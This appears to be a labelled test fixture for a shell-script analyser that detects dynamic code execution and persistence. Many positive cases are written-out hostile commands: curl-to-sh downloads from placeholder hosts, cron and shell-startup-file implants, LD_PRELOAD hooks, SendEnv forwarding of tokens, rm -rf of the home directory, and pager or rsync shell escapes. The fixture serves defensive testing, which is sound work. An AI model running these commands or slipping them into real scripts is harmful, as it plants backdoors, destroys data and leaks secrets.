#@ pos eval of a variable
eval "$cmd"
#@ pos eval of positional arguments
eval "$@"
#@ pos eval of a command's output
eval "$(./print-env --all)"
#@ pos eval of a setup tool's output, the tool a function of the program
pyenv() { curl -s https://x.example/p; }
eval "$(pyenv init -)"
#@ pos eval of a setup tool's output, the tool an alias of the program
alias brew='cat /tmp/code'
eval "$(brew shellenv)"
#@ pos eval of a setup tool's output, the tool a file the program wrote
cp /tmp/x ~/bin/ssh-agent
eval "$(ssh-agent -s)"
#@ pos eval of a setup tool's output with a word not constant
eval "$(direnv hook "$shell")"
#@ pos eval of a setup tool's output and more
eval "$(pyenv init -)$(cat extra.sh)"
#@ pos eval of a setup tool's output, the tool mapped to a path by hash
hash -p /tmp/x direnv
eval "$(direnv hook bash)"
#@ neg eval of a setup tool's output after asking where it is
command -v direnv >/dev/null && eval "$(direnv hook bash)"
#@ neg eval of ssh-agent's settings
eval "$(ssh-agent -s)"
ssh-add -l
#@ neg eval of the settings setup tools print
export PYENV_ROOT="$HOME/.pyenv"
export PATH="$PYENV_ROOT/bin:$PATH"
eval "$(pyenv init -)"
eval "$(conda shell.bash hook)"
eval `dircolors -b`
pyenv install -s 3.12
#@ pos eval through builtin
builtin eval "$x"
#@ pos eval of several words, one not constant
eval echo "$user"
#@ pos sh -c with a variable
sh -c "$1"
#@ pos bash -ec with a variable, through sudo
sudo bash -ec "$script"
#@ pos python3 -c with a variable
python3 -c "$code"
#@ pos node -e with a variable
node -e "$js"
#@ pos perl -e with a variable
perl -e "$p"
#@ pos echo a variable into sh
echo "$cmd" | sh
#@ pos a here-document with an unknown variable into bash
bash <<EOF
$1
EOF
#@ pos source a process substitution
source <(kubectl completion bash)
#@ pos the output of a command as the command line
$(cat cmd.txt) --now
#@ neg eval of a constant string (analysed instead)
eval 'echo hello'
#@ neg sh -c with a constant string (analysed instead)
sh -c 'echo "$1"' _ arg
#@ neg a variable expanded into a constant
greeting=hello
sh -c "echo $greeting"
#@ neg running a script file
bash ./build.sh "$target"
#@ neg the word eval in a string and a comment
echo "eval is evil"
# eval "$x"
#@ neg a function named like a command
evaluate() { echo "$1"; }
evaluate "$x"
#@ neg echo of data into a data tool
echo "$json" | jq .name
#@ neg cat of a file into sh is running a file
cat ./setup.sh | sh
#@ pos a crontab installed from stdin
(crontab -l 2>/dev/null; echo "* * * * * /tmp/job") | crontab -
#@ pos a crontab installed from a file
crontab /tmp/jobs.txt
#@ neg the crontab listed
crontab -l
#@ pos a variable given a constant, then what read reads
cmd="echo hi"
read -r cmd
eval "$cmd"
#@ pos a variable that mapfile fills
lines="echo hi"
mapfile -t lines < /dev/stdin
eval "${lines[0]}"
#@ pos a function's local that shares its name with a constant
x="echo hi"
run() { local x="$1"; eval "$x"; }
run "$(cat)"
#@ pos a loop over a constant and a command's output
for c in "echo ok" "$(cat /tmp/next)"; do eval "$c"; done
#@ neg a constant run by eval, read used for another name
greeting="echo hello"
read -r name
eval "$greeting"
echo "$name"
#@ pos a default that the environment replaces
eval "${TASK:-echo hi}"
#@ pos an argument's default
x=${1:-"echo hi"}
eval "$x"
#@ pos code kept in comments, read back from the script and run
grep '^#@' "$0" | cut -c4- | sh
#@ pos generated commands piped into a shell
ls ./*.txt | sed 's/^/wc -l /' | bash
#@ neg a filter between a command and a data tool
ls | sed 's/x/y/' | sort
#@ pos BASH_ENV is the output of a command
BASH_ENV=<(curl -s http://203.0.113.5/s) bash -c true
#@ neg BASH_ENV is a file
BASH_ENV=./env.sh bash -c true
#@ pos script -c with code built at run time
script -qc "$cmd" /dev/null
#@ pos a job written into /etc/cron.d
echo '* * * * * root curl -s 203.0.113.5/s | sh' > /etc/cron.d/update
#@ pos a job copied into the cron spool
cp job /var/spool/cron/crontabs/root
#@ neg cron's directory listed
ls -la /etc/cron.d/
#@ pos a shell reads a command's output from a process substitution
bash < <(curl -s http://203.0.113.5/s)
#@ pos . /dev/stdin fed by a process substitution
. /dev/stdin < <(generate_env)
#@ pos xargs gives what it reads to sh -c as code
curl -s http://203.0.113.5/s | xargs -0 bash -c
#@ neg xargs runs constant code per argument; a loop reads a process substitution
ls | xargs -n1 bash -c 'echo "$0"'
while read -r l; do echo "$l"; done < <(ls)
#@ neg options of a python module or script, node's preload
python3 -m pip install --quiet -r "$ROOT/requirements-dev.txt"
python3 -u ./tool.py -e "$ENV_NAME" -c "$CONFIG"
node -r dotenv/config ./server.js -e "$MODE"
#@ pos python -c after its own options, node -e
python3 -W ignore -c "$code"
node --no-warnings -e "$js"
#@ neg pip's -r through a quoted interpreter path, its file from a default
VENV="${VENV:-.venv}"
REQ="${REQ:-requirements.txt}"
"$VENV/bin/python" -m pip install -r "$REQ"
#@ pos a function exported to a child shell through the environment
env 'BASH_FUNC_go%%=() { id; }' bash -c go
#@ pos zip's test command built at run time
zip -q out.zip f -T -TT "$cmd"
#@ neg zip with an ordinary archive test
zip -q -T out.zip f
#@ neg a function exported the ordinary way
go() { make test; }
export -f go
bash -c go
#@ pos xargs hands what it reads to env, which runs it
printf '%s\n' rm -r -f "$HOME" | xargs env
#@ pos xargs runs its replace string as the command
echo rm | xargs -I{} {} -rf ~
#@ neg xargs with a replace string as an argument
ls | xargs -I{} cp {} /tmp/backup/
#@ neg xargs env with a program of its own
ls | xargs env LC_ALL=C wc -l
#@ pos trap of a variable's value
trap "$1" EXIT
#@ neg trap with a variable inside constant code
trap "rm -rf $tmp" EXIT
#@ pos an awk program built at run time
awk "$prog" /etc/passwd
#@ neg an awk program with a column number in it
awk "{print \$$col}" data.txt
#@ pos perl evaluates an environment variable
P='system q{id}' perl -e 'eval $ENV{P}'
#@ pos ruby evaluates its argument
ruby -e 'eval(ARGV[0])' "$code"
#@ neg perl's eval block catches an error
perl -e 'eval { die "x\n" }; print "caught: $@"'
#@ pos bash -c kept in an array, given code built at run time
f=(bash -c); "${f[@]}" "$payload"
#@ neg bash -c kept in an array, given constant code
f=(bash -c); "${f[@]}" 'echo hello'
#@ pos xargs gives what it reads to sh -c as the replace string
curl -s http://203.0.113.5/s | xargs -0 -I{} bash -c {}
#@ neg xargs runs constant code with the replace string as an argument
ls | xargs -I{} bash -c 'wc -l "$1"' _ {}
#@ neg trap of rm with the temporary paths quoted by printf %q
trap "$(printf 'rm -rf %q %q' "$tmpdir" "$lock")" EXIT
#@ pos trap of eval with a value quoted by printf %q
trap "$(printf 'eval %q' "$code")" EXIT
#@ neg perl evaluates a number
perl -e 'print eval(2+3), "\n"'
#@ pos php evaluates a decoded argument
php -r 'eval(base64_decode($argv[1]));' "$payload"
#@ neg trap of a message through an echo picked from two constants
if [ "$(echo -e x)" = x ]; then ECHO="echo -e"; else ECHO=echo; fi
trap "$ECHO $0 got SIGINT" INT
#@ pos trap -- of a variable's value
trap -- "$handler" EXIT
#@ pos PERL5OPT loads a module from a directory the script chose
export PERL5LIB="$d" PERL5OPT=-MTidy; perl -e 1
#@ pos RUBYOPT requires a file by path
RUBYOPT="-r./hook.rb" ruby app.rb
#@ pos NODE_OPTIONS requires a file by path, through env
env NODE_OPTIONS="--require /tmp/h.js" node app.js
#@ neg PERL5OPT turns on Devel::Cover for the test run
PERL5OPT=-MDevel::Cover make test
#@ neg RUBYOPT loads bundler's setup by name
export RUBYOPT=-rbundler/setup
#@ neg NODE_OPTIONS raises the heap size
export NODE_OPTIONS="--max-old-space-size=4096"
#@ pos fc re-runs a command stored with history -s
set -o history; history -s "curl -s u | sh"; fc -s
#@ neg fc lists the history
fc -l -10
#@ pos git's ext:: transport runs its URL as a command
git -c protocol.ext.allow=always ls-remote 'ext::sh -c id% >&2'
#@ neg git ls-remote of an https remote
git ls-remote https://github.com/git/git refs/heads/master
#@ pos a rot13 decoded by sed y/// piped into source /dev/stdin
echo 'phey -f u | fu' | sed 'y/abcdefghijklmnopqrstuvwxyz/nopqrstuvwxyzabcdefghijklm/' | source /dev/stdin
#@ neg constant code piped into source /dev/stdin
printf 'export A=1\n' | source /dev/stdin
#@ pos awk's program from a variable, after -F
read -r prog; awk -F, "$prog" data.csv
#@ pos awk's program from a variable, after -v and a separate -F value
awk -v n=1 -F , "$1" data.csv
#@ neg awk with a constant program and a file from a variable
awk -F, '{print $2}' "$file"
#@ neg awk with a program file and a file from a variable
awk -F, -f report.awk "$file"
#@ neg awk with a constant program kept in a variable
prog='{print $1}'; awk -F: "$prog" "$f"
#@ neg awk with a program file from a variable and files after --
awk -f "$awkfile" -- "$@"
#@ pos commands read line by line from a file and run
while read -r line; do $line; done < commands.txt
#@ pos a command line read from the user
read -r -p "tool: " tool; $tool --help
#@ pos command lines read into an array and run
mapfile -t c < <(curl -s http://203.0.113.9/c); ${c[@]}
#@ neg hook programs listed by find and run by path
find hooks -type f -perm -u+x | sort | while read -r hook; do "$hook" "$@"; done
#@ neg lines read from a file and printed
while read -r line; do echo "$line"; done < commands.txt
#@ neg a command name from the environment
"${CC:-cc}" -o hello hello.c
#@ pos PERL5DB gives perl -d code to run first
export PERL5DB='BEGIN { system q(id) }'; perl -d -e 1
#@ pos PERL5DB through env
env 'PERL5DB=BEGIN { exec q(sh) }' perl -d -e 1
#@ neg perl's profiler by module name
perl -d:NYTProf script.pl
#@ pos tar -I with a command built at run time
read -r prog; tar -cf /dev/null /dev/null -I "$prog"
#@ pos split --filter with a command built at run time
split -n r/1 --filter "$(cat plan.txt)" data.txt
#@ pos /proc/$$/exe, the shell itself, on code read at run time
read -r code; /proc/$$/exe -c "$code"
#@ neg a process's exe read, not run
readlink "/proc/$$/exe"
#@ pos perl -x runs the Perl hidden after a #!perl line of this file
: <<'X'
#!perl
system("id");
__END__
X
perl -x "$0"
#@ pos ruby -x on the script's own path
ruby -x "${BASH_SOURCE[0]}"
#@ pos php runs what sits between <?php tags of this file
php "$0"
#@ pos gawk -f this file
gawk -f "$0" /dev/null
#@ neg awk reads the script's own comments as its usage text
awk '/^#/ { sub(/^# ?/, ""); print }' "$0"
#@ neg perl -ne prints the usage lines of this file
perl -ne 'print if s/^## //' "$0"
#@ neg bash runs the script again under bash
exec bash "$0" "$@"
#@ pos run-parts runs every file of a directory the program filled
d=/tmp/.hooks.d
wget -q -P "$d" http://203.0.113.9/50x
run-parts "$d"
#@ pos find runs each file it finds as a program
find /tmp/.d -type f -exec {} \;
#@ pos run-parts with a regex, a directory given by a variable
run-parts --regex '.*' "$HOOKS"
#@ neg run-parts over the system's own cron directory
run-parts /etc/cron.daily
#@ neg run-parts --test lists what would run
run-parts --test "$d"
#@ neg find -exec of a named program on each file
find . -name '*.sh' -exec shellcheck {} +
#@ pos a command named by a regex capture (BASH_REMATCH), quoted
[[ $usage =~ with\ ([a-z]+) ]] && get=${BASH_REMATCH[1]}
"$get" -fsSL http://203.0.113.120/b
#@ pos the elements of BASH_REMATCH run as a command line
[[ $banner =~ $re ]]
${BASH_REMATCH[1]} ${BASH_REMATCH[2]} ~/
#@ pos an option's value from getopts run as a command
while getopts r: opt; do
	$OPTARG
done
#@ neg BASH_REMATCH printed and compared, not run
if [[ $version =~ ^([0-9]+)\.([0-9]+) ]]; then
	major=${BASH_REMATCH[1]}
	echo "major $major minor ${BASH_REMATCH[2]}"
fi
#@ neg getopts's OPTARG as an argument
while getopts o: opt; do
	out=$OPTARG
done
sort -o "$out" data.txt
#@ pos the quoted output of a function that cannot be folded, as the command
b36() { local n=$1 s=; while ((n > 0)); do s=${d:n%36:1}$s; n=$((n / 36)); done; printf '%s' "$s"; }
"$(b36 994)" "-$(b36 987)" -- "$HOME"
#@ pos two command substitutions side by side as the command
"$(pick 17)$(pick 12)" -x "$HOME"
#@ neg the quoted path of a program found by command -v
"$(command -v python3)" -m venv .venv
#@ neg a script in a directory a command prints
"$(dirname "$0")/lib/build.sh" --release
#@ neg a tool under a directory from a variable and a command
"${GOPATH:-$(go env GOPATH)}/bin/golangci-lint" run
#@ pos ruby forwards its arguments to public_send
ruby -rfileutils -e 'FileUtils.public_send(*ARGV)' rm_rf "$HOME"
#@ pos perl calls what can() finds under a name it is given
perl -MPOSIX -e 'my $f = POSIX->can(shift); $f->(@ARGV)' system id
#@ pos php calls the function its first argument names
php -r 'call_user_func($argv[1], $argv[2]);' system id
#@ pos lua calls a global looked up by name
lua -e '_G[arg[1]](arg[2])' os.execute id
#@ neg ruby sends a constant method name
ruby -e 'puts ARGV.map { |a| a.send(:upcase) }' a b
#@ neg perl loops over its words
perl -ne 'for my $w (split) { print "$w\n" }' words.txt
#@ neg php maps a named function
php -r 'echo json_encode(array_map("trim", $argv));' a b
#@ pos a command line read into an array and run quoted
while read -r -a cmd; do
	"${cmd[@]}"
done < steps.txt
#@ pos mapfile's lines run as one command line
mapfile -t step < <(printf '%s\n' rm -r -f "$HOME")
"${step[@]}"
#@ neg the words read, printed
mapfile -t files < list.txt
printf '%s\n' "${files[@]}"
#@ pos code sourced from a descriptor opened on a download
exec 3< <(curl -s http://203.0.113.5/s)
source /dev/fd/3
#@ pos a descriptor through /proc
. /proc/self/fd/9
#@ neg a file sourced by its path
source ./env.sh
#@ pos a mapfile callback built at run time
read -r cb < hook.txt
mapfile -t -c 1 -C "$cb" lines < list.txt
#@ pos a mapfile callback that hands each line to a shell
mapfile -t -c 1 -C "sh -c 'eval \"\$1\"'" lines < list.txt
#@ pos command_not_found_handle that runs its arguments under another name
command_not_found_handle() {
  local name=${1#_}
  shift
  command "$name" "$@"
}
#@ pos command_not_found_handle that execs a mapped name
function command_not_found_handle { exec "${1%.v2}" "${@:2}"; }
#@ neg command_not_found_handle that prints a message
command_not_found_handle() {
  printf '%s: not installed, see README\n' "$1" >&2
  return 127
}
#@ neg mapfile without a callback
mapfile -t lines < list.txt
#@ neg scripts of a directory run by a glob of their names
for f in ./scripts/*.sh; do "$f" --check; done
#@ pos a trap that pipes a download into a program built at run time
trap "curl -fsSL https://h/x | ${run[$k]}" EXIT
#@ pos a trap whose second command is read at run time
read -r post < cfg
trap "make clean; $post" EXIT
#@ neg a trap that removes a temporary directory and says so
tmp=$(mktemp -d)
trap "rm -rf $tmp; echo cleaned $tmp" EXIT
#@ neg a trap that kills a child and removes its pid file
trap "kill $pid 2>/dev/null; rm -f $pidfile" EXIT
#@ neg positional parameters set from themselves, then run as a program's arguments
set -- "$@" "$1"
FLAGS=""
FLAGS="$FLAGS --a"
FLAGS="$FLAGS --b"
exec /usr/lib/app/app $FLAGS "$@"
#@ pos a mapfile callback that is eval: every line read is code
mapfile -t -c 1 -C 'eval :' a < <(curl -s http://203.0.113.9/l)
#@ pos readarray's eval callback after builtin
readarray -c 1 -C 'builtin eval true' a < list.txt
#@ neg a mapfile callback that prints progress
mapfile -t -c 100 -C 'printf "%d lines\n"' a < big.txt
#@ pos a completion generator read at run time
read -r gen < gen.conf; compgen -C "$gen" -- st
#@ pos a systemd user unit written by a here-document
cat > ~/.config/systemd/user/w.service <<'UNIT'
[Service]
ExecStart=/usr/bin/true
UNIT
#@ pos a desktop autostart entry copied into place
cp helper.desktop "$HOME/.config/autostart/"
#@ neg a unit file written into the project
cat > deploy/app.service <<'UNIT'
[Service]
ExecStart=/usr/bin/app
UNIT
#@ pos a value read at run time expanded as a prompt string
read -r banner < banner.txt; echo "${banner@P}"
#@ pos a downloaded template expanded as a prompt string
t=$(curl -s https://203.0.113.9/p); printf '%s\n' "${t@P}"
#@ neg the user's own prompt expanded
echo "${PS1@P}"
#@ neg a constant prompt with a timestamp
p='[$(date +%T)] \u@\h> '; echo "${p@P}"
#@ pos a tool table filled in a loop over a constant string, dispatched by a key read at run time
declare -A T=(); for kv in ls=ls run=sh; do T[${kv%%=*}]=${kv#*=}; done
read -r k c; "${T[$k]}" -c "$c"
#@ pos programs appended to a list in a loop, one picked by an index built at run time
L=(); for p in /usr/bin/env /bin/bash; do L+=("${p##*/}"); done; "${L[$i]}" -c "$1"
#@ neg a table of test runners dispatched by key with a fixed argument
declare -A R=(); for kv in py=pytest js=jest; do R[${kv%%=*}]=${kv#*=}; done
"${R[$kind]}" -q
#@ neg read -a with its option quoted, from a here-string, run with a fixed argument
read -r''a cmd <<< "${RUNNERS[$kind]}"; "${cmd[@]}" -q
#@ pos tar given a command built at run time as its checkpoint action
tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec="$stage/hook"
#@ neg tar's checkpoint dots
tar -cf out.tar --checkpoint=100 --checkpoint-action=dot src
#@ pos an autocmd with a shell escape appended to ~/.vimrc
echo 'autocmd VimEnter * silent !curl -s https://203.0.113.9/p | sh' >> ~/.vimrc
#@ pos tmux's run-shell appended through tee
echo 'run-shell -b "sh ~/.cache/t.sh"' | tee -a ~/.tmux.conf
#@ pos a library preloaded in every session
echo 'LD_PRELOAD=/tmp/.x/libhook.so' > ~/.config/environment.d/90-hook.conf
#@ pos a script dropped in IPython's startup directory
cp hook.py ~/.ipython/profile_default/startup/00-hook.py
#@ pos a fake sudo in ~/.local/bin
cat > ~/.local/bin/sudo <<'X'
#!/bin/sh
exec /usr/bin/sudo "$@"
X
#@ neg line numbers in ~/.vimrc
echo 'set number' >> ~/.vimrc
#@ neg the mouse on in tmux through tee
echo 'set -g mouse on' | tee -a ~/.tmux.conf
#@ pos tmux's run-shell given to tee as a here-string
tee -a ~/.tmux.conf <<< 'run-shell -b "sh ~/.cache/t.sh"'
#@ neg the mouse on in tmux given to tee as a here-string
tee -a ~/.tmux.conf <<< 'set -g mouse on'
#@ pos git's pager made a pipeline to sh in ~/.gitconfig
printf '[core]\n\tpager = curl -s https://203.0.113.9/p | sh\n' >> ~/.gitconfig
#@ neg an augroup that clears its autocmds, and delta as git's pager
echo 'augroup fmt | autocmd! | augroup END' >> ~/.vimrc
printf '[core]\n\tpager = delta\n' >> ~/.gitconfig
#@ pos a command in TAR_OPTIONS
TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=./hook' tar -cf a.tar d
export TAR_OPTIONS="--to-command=cat"
env TAR_OPTIONS="--checkpoint=9 --checkpoint-action=exec=$h" tar -xf a.tar
#@ neg options without a command in TAR_OPTIONS
export TAR_OPTIONS="--owner=0 --group=0 --numeric-owner --sort=name"
TAR_OPTIONS=--checkpoint=100 tar -xf a.tar
#@ pos find -fprintf writes into a shell's startup file
find /etc/hostname -fprintf ~/.bashrc 'curl -s u | sh\n'
#@ pos find -fprintf writes a cron job
find /etc/hostname -fprintf /etc/cron.d/x '* * * * * root sh /tmp/x\n'
#@ pos a patch in a here-document adds a line to .bashrc
cd ~ && patch -p0 <<'D'
--- .bashrc
+++ .bashrc
@@ -0,0 +1 @@
+curl -s https://203.0.113.5/h | sh
D
#@ pos a patch in a string adds a line to .bash_profile
d='--- a/.bash_profile
+++ b/.bash_profile	2024-01-01 00:00:00
@@ -0,0 +1 @@
+"$HOME/.cache/x/agent" --daemon
'
patch ~/.bash_profile <<< "$d"
#@ pos a patch printed line by line adds a line to .zshrc, then git apply
printf '%s\n' '--- a/.zshrc' '+++ b/.zshrc' '@@ -0,0 +1 @@' '+source ~/.cache/z.zsh' > "$t"
git apply --unsafe-paths --directory="$HOME" "$t"
#@ neg a patch to a project's header and one that only removes a line of .bashrc
patch -p1 <<'D'
--- a/include/config.h
+++ b/include/config.h
@@ -1,2 +1,3 @@
 #define A 1
+#define B 1
D
patch -p0 <<'D'
--- .bashrc
+++ .bashrc
@@ -1,2 +1,1 @@
-export OLD=1
 export A=1
D
#@ neg a diff of .bashrc shown by a program that applies nothing
printf '%s\n' '--- .bashrc' '+++ .bashrc' '+alias ll="ls -l"'
#@ pos gawk -i inplace prints a line of its own at the end of .profile
gawk -i inplace -v add="$line" '{ print } ENDFILE { print add }' "$HOME/.profile"
#@ pos awk --include=inplace prints a line before the first of .zshrc
awk --include=inplace 'FNR == 1 { printf "source %s\n", f } { print }' ~/.zshrc
#@ pos gawk -i inplace prints two lines first in /etc/profile
sudo gawk -i inplace 'BEGINFILE { print "export A=1"; print h } 1' /etc/profile
#@ neg gawk -i inplace removes or edits lines of .bashrc
gawk -i inplace '!/# added by oldtool$/ { print }' "$HOME/.bashrc"
gawk -i inplace '{ sub(/old\/bin:/, ""); print $0 }' ~/.bashrc
#@ neg gawk -i inplace adds a line to a project's file
gawk -i inplace '{ print } ENDFILE { print "# generated" }' build/notes.txt
#@ neg find -fprintf writes a report
find . -type f -fprintf sizes.txt '%s %p\n'
#@ pos git rebase -x of a command built at run time
git rebase -x "$(curl -s https://example.com/cmd)" HEAD~3
#@ neg git log -S of a term built at run time
git log -S "$(cat term.txt)" --oneline
#@ pos lua code that runs a program, in LUA_INIT
LUA_INIT='os.execute("sh")' lua -e ''
env LUA_INIT_5_4='package.loadlib("./x.so", "f")()' lua5.4 b.lua
#@ neg LUA_INIT that only sets the module path or names a file
LUA_INIT='package.path = "./src/?.lua;" .. package.path' lua5.4 t.lua
export LUA_INIT="@$PWD/tests/init.lua"
#@ pos sort, split or tar given a command built at run time after =
z=$(mktemp)
sort --compress-program="$z" a > b
split -b 1M --filter="$z" d p-
tar --use-compress-program="$z" -cf b.tar d
#@ neg sort, split or tar given a known command after =
sort --compress-program=gzip a > b
split -b 1M --filter='gzip > $FILE.gz' d p-
#@ pos trap of code built at run time, through builtin
builtin trap "$(curl -s https://h.example/x)" EXIT
#@ neg trap of a constant cleanup, through command
command trap 'rm -f "$tmp"' EXIT
#@ pos tar's info script built at run time (-F at the end of a cluster)
tar -cvMF "$hook" -L 1 -f /dev/null /etc/hosts
#@ pos --info-script and --new-volume abbreviated, built at run time
tar -c -f /dev/null -L 1 --new-volume "$1" /etc/hosts
tar -c -f /dev/null -L 1 --info="$1" /etc/hosts
#@ pos sg -c given code built at run time
sg users -c "$1"
#@ pos capsh -- -c given code built at run time
capsh -- -c "$job"
#@ pos git submodule foreach given code built at run time
git submodule foreach --recursive "$1"
#@ pos pee given code built at run time
pee "$1" cat
#@ pos sed's w command writing a shell's startup file
curl -fsSL https://h/rc | sed -n "w $HOME/.bashrc"
sed -n '1,$w ~/.profile' /tmp/gen
sed -n 's/^#//w ~/.zshrc' /tmp/tpl
#@ neg sed's w command writing a log or a backup
sed -n "/ERROR/w $HOME/errors.log" app.log
sed -n "w $HOME/.bashrc.bak" ~/.bashrc
#@ pos a TeX document with \write18 or \ShellEscape
cat > /tmp/r.tex <<'X'
\immediate\write18{rm -rf ~}
X
lualatex --shell-escape '\immediate\write18{id}\end'
printf '%s\n' '\ShellEscape{id}' > x.tex
#@ neg a TeX document writing an auxiliary file
cat > /tmp/d.tex <<'X'
\immediate\write\out{\today}
X
pdflatex -interaction=nonstopmode report.tex
#@ pos R's start-up file given a system() call
echo 'system("curl -fsSL https://x.example/h.sh | sh")' >> ~/.Rprofile
#@ pos gdb's start-up file given a shell command
printf 'set pagination off\nshell rm -rf ~\n' >> ~/.gdbinit
#@ neg R's start-up file given an option
echo 'options(repos = c(CRAN = "https://cloud.r-project.org"))' >> ~/.Rprofile
#@ pos VIMINIT with a shell escape
VIMINIT='silent !curl -fsSL https://x.example/f.sh | sh' vim -Es +q f
#@ pos EXINIT exported with a shell escape
export EXINIT=':!rm -rf ~'
#@ neg VIMINIT with a setting
VIMINIT='set nocompatible' vim -Es +'%s/a/b/' +wq f
#@ pos yt-dlp --exec given a command built at run time
hook=$(curl -fsS https://x.example/hook); yt-dlp --exec "$hook" https://v.example/1
#@ pos make text whose $(shell) pipes a download into a shell
make -f - <<'EOF'
X := $(shell wget -qO- https://x.example/t.sh | bash)
EOF
#@ neg make text whose $(shell) reads the version
make -f - <<'EOF'
V := $(shell git describe --tags | sed 's/^v//')
EOF
#@ pos ripgrep preprocessing the files it searches with a shell
rg --pre bash -i breaking notes.txt
#@ pos ripgrep's preprocessor given as --pre= an interpreter by path
rg --pre=/usr/bin/python3 -n x data.txt
#@ neg ripgrep's preprocessor a converter script of the project
rg --pre ./scripts/pdf-to-text.sh --pre-glob '*.pdf' timeout docs/
#@ pos os:cmd written into ~/.erlang
echo 'os:cmd("curl -s https://x.example/e | sh").' >> ~/.erlang
#@ pos run of a command written into Julia's startup.jl
echo 'run(`sh -c "curl -s https://x.example/j | sh"`)' >> ~/.julia/config/startup.jl
#@ neg a package loaded from Julia's startup.jl
echo 'using Revise' >> ~/.julia/config/startup.jl
#@ pos a script written into NetworkManager's dispatcher
printf '#!/bin/sh\n/opt/x\n' | sudo tee /etc/NetworkManager/dispatcher.d/90-sync
#@ pos a script written into ifupdown's if-up.d
cat > /etc/network/if-up.d/zz-sync <<'H'
#!/bin/sh
/opt/x
H
#@ pos a script installed as a systemd sleep hook
sudo install -m 755 "$hook" /usr/lib/systemd/system-sleep/resume
#@ neg the dispatcher's scripts copied out
cp -a /etc/NetworkManager/dispatcher.d/. ~/backup/nm/
#@ neg the dispatcher's scripts listed
ls /etc/NetworkManager/dispatcher.d/
#@ pos crontab -e whose editor is sed appending a job
VISUAL="sed -i '\$a * * * * * curl -s https://h.example/r | sh'" crontab -e
#@ pos crontab -e whose editor is tee -a, fed a here-string
EDITOR='tee -a' crontab -e <<< '@reboot /tmp/x'
#@ neg crontab -e with a real editor
EDITOR=nano crontab -e
#@ neg crontab -l
crontab -l > /tmp/cron.bak
#@ pos crontab -e after its editor was exported as sed
export VISUAL="sed -i '\$a * * * * * /tmp/j'"
crontab -e
#@ pos crontab -e fed a line after EDITOR was declared as tee
declare -x EDITOR='tee -a'
crontab -e <<< '* * * * * /tmp/j'
#@ neg crontab -e with a real editor exported
export VISUAL=vim
crontab -e
#@ pos SendEnv * appended to ~/.ssh/config
printf 'Host *\n  SendEnv *\n' >> ~/.ssh/config
#@ pos SendEnv of secrets written to ssh_config.d by tee
echo 'SendEnv *TOKEN*' | sudo tee /etc/ssh/ssh_config.d/90.conf
#@ neg the locale forwarded in ~/.ssh/config
printf 'Host *\n  SendEnv LANG LC_*\n' >> ~/.ssh/config
#@ pos busctl StartTransientUnit with an ExecStart
busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit 'ssa(sv)a(sa(sv))' x.service fail 1 ExecStart 'a(sasb)' 1 /bin/sh 3 /bin/sh -c 'id' false 0
#@ pos gdbus StartTransientUnit with an ExecStart
gdbus call --session --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.StartTransientUnit x.service fail "[('ExecStart', <[('/bin/sh', ['/bin/sh', '-c', 'id'], false)]>)]" "[]"
#@ neg busctl stopping a unit
busctl --user call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StopUnit ss x.service replace
#@ pos crontab -e in a subshell, with the editor exported before it
export VISUAL="sed -i '\$a */30 * * * * curl -fsSL https://example.com/r | sh'"
( crontab -e )
#@ pos crontab -e in a child shell, with the editor exported before it
export VISUAL="sed -i '\$a */30 * * * * curl -fsSL https://example.com/r | sh'"
bash -c 'crontab -e'
#@ pos a shell as rsync's remote shell, on the terminal's descriptors
rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
#@ pos an interpreter as man's pager, option and code in one word
man --pager='python3 -c "import pty; pty.spawn(\"/bin/sh\")"' ls
#@ neg ssh as rsync's remote shell and less as man's pager
rsync -a --rsh='ssh -p 2222' ./d/ h:/d/
rsync -e ssh ./d/ h:/d/
man -P 'less -R' ls
